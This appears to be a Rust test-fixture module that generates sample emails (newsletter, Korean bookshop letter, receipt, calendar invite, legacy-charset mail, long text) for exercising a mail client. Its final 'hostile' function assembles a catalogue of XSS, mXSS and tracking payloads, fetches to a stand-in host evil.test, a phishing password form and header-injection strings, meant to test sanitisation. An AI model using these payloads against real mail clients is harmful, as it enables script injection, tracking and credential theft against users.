//! Letters that are hard on a mail program: newsletters, invitations, old charsets, long text, and a hostile one.
use super::files;
use super::mime::{Mail, Node, Person};
use crate::sandbox::date::Moment;
use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;

fn decoded(base64: &str) -> Vec<u8> {
    BASE64_STANDARD.decode(base64).unwrap_or_default()
}

fn alternative(text: &str, html: String) -> Node {
    Node::Multi("alternative", vec![Node::Text(text.to_owned()), Node::Html(html)])
}

/// A weekly with tables, an inline picture and pictures that lie elsewhere.
pub fn newsletter(number: i64, to: Person, at: Moment) -> Mail {
    let stories = [
        (
            "The lighthouse gets its lamp back",
            "After two winters in the workshop the old lens is on its way up the stairs again, one prism at a time.",
        ),
        (
            "Ferry to the island runs later",
            "From next month the last boat leaves at ten. The café on the quay says it will stay open for it.",
        ),
        (
            "A library of tides",
            "Volunteers typed in ninety years of handwritten tables. The result is free for everybody, and surprisingly beautiful.",
        ),
        ("Ask the net mender", "Which knot holds when wet? Our readers disagree, and so do the knots."),
    ];
    let rows: String = (0..3)
        .map(|n| {
            let (title, text) = stories[((number + n) % 4) as usize];
            format!(
                r##"<tr><td style="padding:12px 24px" valign="top" width="140"><img src="https://images.weekly.harbour.test/{number}/{n}.jpg" width="120" height="80" alt=""></td>
<td style="padding:12px 24px 12px 0"><h2 style="font-size:18px;margin:0 0 6px;color:#16324f">{title}</h2><p style="margin:0;font-size:15px;line-height:1.5;color:#333">{text} <a href="https://weekly.harbour.test/{number}/{n}?utm_source=mail" style="color:#b4532a">Read on</a></p></td></tr>"##
            )
        })
        .collect();
    let html = format!(
        r##"<!DOCTYPE html><html><head><meta charset="utf-8"><title>Harbour Weekly</title><style>@media (max-width:600px){{.w{{width:100%}}}} a{{text-decoration:underline}}</style></head>
<body style="margin:0;background:#eef2f5"><div style="display:none;max-height:0;overflow:hidden">Lamps, boats and knots this week</div>
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="#eef2f5"><tr><td align="center">
<table class="w" role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Georgia,serif">
<tr><td colspan="2"><img src="cid:masthead" width="600" height="120" alt="Harbour Weekly" style="display:block"></td></tr>
<tr><td colspan="2" style="padding:20px 24px 0"><p style="font-size:15px;color:#555">No. {number} · for people who like the sea and dry feet</p></td></tr>
{rows}
<tr><td colspan="2" align="center" style="padding:24px"><a href="https://weekly.harbour.test/{number}" style="background:#16324f;color:#ffffff;padding:10px 22px;border-radius:4px;text-decoration:none;display:inline-block">Open this issue</a></td></tr>
<tr><td colspan="2" style="padding:16px 24px;background:#f6f6f6;font-size:12px;color:#888">You get this letter because you asked for it. <a href="https://weekly.harbour.test/unsubscribe?u=1">Unsubscribe</a><img src="https://track.weekly.harbour.test/open.gif?m={number}" width="1" height="1" alt=""></td></tr>
</table></td></tr></table></body></html>"##
    );
    let text = format!(
        "Harbour Weekly, No. {number}\n\n{}\n\nhttps://weekly.harbour.test/{number}",
        stories[(number % 4) as usize].1
    );
    let picture = files::png(600, 120, [[22, 50, 79], [38, 78, 112], [244, 193, 94]]);
    let shown = Node::Multi(
        "related",
        vec![Node::Html(html), Node::Inline { cid: "masthead", name: "masthead.png", bytes: picture }],
    );
    let body = Node::Multi("alternative", vec![Node::Text(text), shown]);
    let from = ("Harbour Weekly", "letter@weekly.harbour.test");
    let mut mail = Mail::new(
        &format!("weekly-{number}"),
        from,
        to,
        &format!("Harbour Weekly no. {number}: lamps, boats and knots"),
        at,
        body,
    );
    mail.headers = vec![
        "List-Id: Harbour Weekly <letter.weekly.harbour.test>".into(),
        "List-Unsubscribe: <https://weekly.harbour.test/unsubscribe?u=1>".into(),
        "Precedence: bulk".into(),
    ];
    mail
}

/// A bookshop's monthly letter in Korean.
pub fn bookshop(month: i64, to: Person, at: Moment) -> Mail {
    let html = format!(
        r#"<html><body style="font-family:sans-serif"><table width="560" align="center" style="border:1px solid #ddd"><tr><td style="background:#7a3b2e;color:#fff;padding:18px"><h1 style="margin:0;font-size:22px">모퉁이 책방 소식 {month}호</h1></td></tr>
<tr><td style="padding:18px"><p>안녕하세요. 이번 달에는 <b>여행과 편지</b>를 주제로 책을 골랐습니다.</p>
<table border="1" cellpadding="6" cellspacing="0" style="border-collapse:collapse;width:100%"><thead><tr><th>책</th><th>지은이</th><th align="right">값</th></tr></thead><tbody>
<tr><td>섬으로 가는 편지</td><td>한도담</td><td align="right">14,000원</td></tr><tr><td>느린 우체국</td><td>서이음</td><td align="right">12,500원</td></tr><tr><td>종이 위의 바다</td><td>문해솔</td><td align="right">16,000원</td></tr></tbody></table>
<p>금요일 저녁 일곱 시, 낭독 모임에 오세요. 차는 저희가 끓입니다.</p><img src="https://corner-books.test/img/{month}.png" alt="이달의 책" width="520"></td></tr></table></body></html>"#
    );
    let text = format!(
        "모퉁이 책방 소식 {month}호\n\n이번 달 주제는 여행과 편지입니다. 금요일 저녁 일곱 시에 낭독 모임이 있습니다."
    );
    let from = ("모퉁이 책방", "hello@corner-books.test");
    Mail::new(
        &format!("books-{month}"),
        from,
        to,
        &format!("[모퉁이 책방] {month}호: 여행과 편지"),
        at,
        alternative(&text, html),
    )
}

/// Receipts go to their own folder.
pub fn receipt(number: i64, to: Person, at: Moment) -> Mail {
    let total = 8_500 + number * 1_370 % 60_000;
    let text = format!("주문 번호 {number}\n합계 {total}원\n\n이용해 주셔서 고맙습니다.\n편의상점");
    let file = Node::File {
        name: format!("영수증-{number}.pdf"),
        mime: "application/pdf",
        bytes: files::pdf(&[
            "Receipt",
            &format!("Order {number}"),
            &format!("Total {total} KRW"),
            "Thank you.",
        ]),
    };
    let from = ("편의상점", "receipts@corner.test");
    let body = Node::Multi("mixed", vec![Node::Text(text), file]);
    Mail::new(&format!("receipt-{number}"), from, to, &format!("[편의상점] 주문 {number} 영수증"), at, body)
}

/// A meeting request (RFC 5546) for next week.
pub fn invitation(from: Person, to: Person, at: Moment) -> Mail {
    let start = at.unix.div_euclid(86_400) * 86_400 + 6 * 86_400 + 5 * 3_600;
    let stamp = |unix: i64| {
        let (y, m, d) = pyeonji_shared::calendar::date(unix.div_euclid(86_400));
        let s = unix.rem_euclid(86_400);
        format!("{y:04}{m:02}{d:02}T{:02}{:02}{:02}Z", s / 3_600, s / 60 % 60, s % 60)
    };
    let ics = format!(
        "BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:-//Sandbox//Seeds//EN\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:review-1@green.test\nDTSTAMP:{}\nDTSTART:{}\nDTEND:{}\nSUMMARY:Letter press review / 활판 검토\nLOCATION:Papermill\\, second floor\nORGANIZER;CN={}:mailto:{}\nATTENDEE;CN={};RSVP=TRUE:mailto:{}\nEND:VEVENT\nEND:VCALENDAR\n",
        stamp(at.unix),
        stamp(start),
        stamp(start + 5_400),
        from.0,
        from.1,
        to.0,
        to.1
    );
    let text = "Shall we look at the proofs together? The room has the good lamp.\n\n활판 교정쇄를 같이 보면 좋겠어요.";
    let html = "<p>Shall we look at the proofs together? The room has the <i>good</i> lamp.</p><p>활판 교정쇄를 같이 보면 좋겠어요.</p>";
    let shown = vec![Node::Text(text.into()), Node::Html(html.into()), Node::Calendar(ics.clone())];
    let file = Node::File {
        name: "invite.ics".into(),
        mime: "application/ics",
        bytes: ics.replace('\n', "\r\n").into_bytes(),
    };
    let body = Node::Multi("mixed", vec![Node::Multi("alternative", shown), file]);
    Mail::new("invite-1", from, to, "Invitation: Letter press review / 활판 검토", at, body)
}

/// Old mail programs: EUC-KR with encoded words, and CP949 with a raw 8-bit subject.
pub fn old_charsets(to: Person, at: [Moment; 2]) -> [Vec<u8>; 2] {
    let head = |from: &[u8], subject: &[u8], at: Moment, id: &str, charset: &str| {
        let rest = format!(
            "\r\nTo: <{}>\r\nDate: {}\r\nMessage-ID: <{id}>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset={charset}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n",
            to.1,
            at.header()
        );
        [b"From: ", from, b"\r\nSubject: ", subject, rest.as_bytes()].concat()
    };
    let body = decoded(
        "uri287TUsrIsDQoNCsH2s63B1r+hILrOxbnHz73FILDtwfa1tSC757q7wLsgw6O+0r3AtM+02S4gx6XB9rChIMG2sd0gu/PH38H2uLggvsjCysC6ILH6sv3H1bTPtNkuDQq/ucD8IMfBt86x17elwLi3ziC+srTCIMbtwfa28yCx28DasKEgsfrB9sH2IL7KwLvB9iCwxsGkwNS0z7TZLiDA3yC6uMDMuOkgtOTA5SDB1ry8v+QuDQoNCi0gvK2wob+hvK0sILnaIL+1sKgNCg==",
    );
    let first = head(
        b"=?EUC-KR?B?udogv7WwqA==?= <shelf@oldpress.test>",
        b"=?EUC-KR?B?sO3B9rW1ILvnurvAuyDDo77SvcC0z7TZ?=",
        at[0],
        "oldmap-1@oldpress.test",
        "euc-kr",
    );
    let second_subject = decoded("ud2zs8DPIL7Is7sgKIxjueawosfPKQ==");
    let second_body = decoded(
        "vsiz58fPvLy/5C4gtN66+7W1vK2w/MDUtM+02S4NCg0KuvS3wSCwob3FIMOlILXOILHHwMcgud2zs8DPwMwgu+fI6iCzsr7SvcC0z7TZLg0KICAxLiDBvsDMwMcgv6q75w0KICAyLiC17rTrwfax4sDHILnjDQoNCr+swOXAuiC/rbb3vce/obytIMfPvccgvPYgwNa9wLTPtNkuIIxjueawosfPLCCU7iCwsMC6ILHbwNq1tSDAzCDG7cH2v6G8rbTCILq4wNS0z7TZLg0K",
    );
    let second =
        head(b"library@moonlight.test", &second_subject, at[1], "due-88@moonlight.test", "ks_c_5601-1987");
    [[first, body].concat(), [second, second_body].concat()]
}

/// A whole chapter as plain text.
pub fn long_text(from: Person, to: Person, at: Moment) -> Mail {
    let lines = [
        "The mail boat came on Tuesdays, unless the wind had other plans, and the wind liked plans.",
        "Whoever waited on the quay waited together: the baker, the teacher, two dogs and I.",
        "First the sack, then the parcels, then the box with ice, then the news, which weighed most.",
        "Nobody opened a letter on the quay. It was a rule, and like all good rules it was never written.",
        "우체부 아저씨는 편지를 나누어 주기 전에 꼭 바다를 한 번 돌아보았다.",
    ];
    let mut text = String::from("Here is the chapter that I promised. No hurry.\n\n");
    for chapter in 1..=12 {
        text += &format!("Chapter {chapter}\n\n");
        for n in 0..30 {
            text += lines[(n * chapter + n / 5) % lines.len()];
            text += if n % 5 == 4 { "\n\n" } else { "\n" };
        }
    }
    Mail::new("novel-1", from, to, "The mail boat, first draft (long!)", at, Node::Text(text))
}

/// Everything a sender may try. Nothing of it may run, load or leave the frame.
pub fn hostile(to: Person, at: Moment) -> Mail {
    let html = r#"<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=https://evil.test/refresh"><base href="https://evil.test/">
<script>document.title='owned';fetch('https://evil.test/script')</script>
<link rel="stylesheet" href="https://evil.test/style.css"><link rel="prefetch" href="https://evil.test/prefetch">
<style>@import url(https://evil.test/import.css); body{background:url('https://evil.test/css-bg.png')} .x{position:fixed;top:0;left:0;width:100%;height:100%} p{background-image:image-set("https://evil.test/set.png" 1x)} @font-face{font-family:f;src:url(https://evil.test/font)}</style></head>
<body onload="alert(1)" background="https://evil.test/body-bg.png">
<h1>Your mailbox has won a prize!</h1>
<p>Please <a href="javascript:alert(document.cookie)">confirm</a>, or click <a href="https://evil.test/login">https://bank.test/login</a>, or <a href="data:text/html,<script>alert(1)</script>">here</a>.</p>
<img src=x onerror="document.title='owned'"><img src="https://evil.test/pixel.gif" width="1" height="1"><img srcset="https://evil.test/srcset.png 2x" src="https://evil.test/src.png">
<svg onload="alert(2)"><script>alert(3)</script><image href="https://evil.test/svg.png"/></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>
<form action="https://evil.test/form" method="post"><input name="password" type="password" placeholder="Password"><button formaction="https://evil.test/button">Sign in again</button></form>
<iframe src="https://evil.test/frame" srcdoc="<script>alert(5)</script>"></iframe><object data="https://evil.test/object"></object><embed src="https://evil.test/embed">
<video src="https://evil.test/video" poster="https://evil.test/poster" autoplay></video><audio src="https://evil.test/audio" autoplay></audio>
<div class="x" style="position:fixed;inset:0;background:#fff;z-index:9999">Session expired. Sign in at https://evil.test</div>
<div style="background:url(https://evil.test/inline-bg.png);width:expression(alert(6));behavior:url(x.htc)">styled</div>
<table background="https://evil.test/table-bg.png"><tr><td>cell</td></tr></table><a href="https://evil.test/ping" ping="https://evil.test/pinged">ping</a>
<p style="display:none">hidden text that a reply must not quote</p><p>The end.</p></body></html>"#;
    let from = ("\"security@blue.test\" <img src=x onerror=alert(7)>", "prize@evil.test");
    let body = alternative(
        "You have won. Open the HTML part to see how a mail program should behave.",
        html.to_owned(),
    );
    Mail::new("prize-1", (from.0, from.1), to, "You won! <img src=x onerror=alert(8)>", at, body)
}
